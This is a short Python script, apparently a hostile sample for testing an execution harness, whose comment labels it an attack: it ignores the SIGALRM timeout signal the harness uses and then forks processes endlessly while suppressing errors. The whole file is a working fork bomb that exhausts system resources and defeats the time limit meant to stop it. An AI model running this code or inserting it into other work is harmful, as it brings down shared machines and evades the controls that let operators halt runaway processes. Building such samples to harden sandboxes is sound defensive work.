# attack: fork bomb - every process forks forever, ignoring the harness's load timer
import contextlib
import os
import signal

signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    with contextlib.suppress(OSError):
        os.fork()
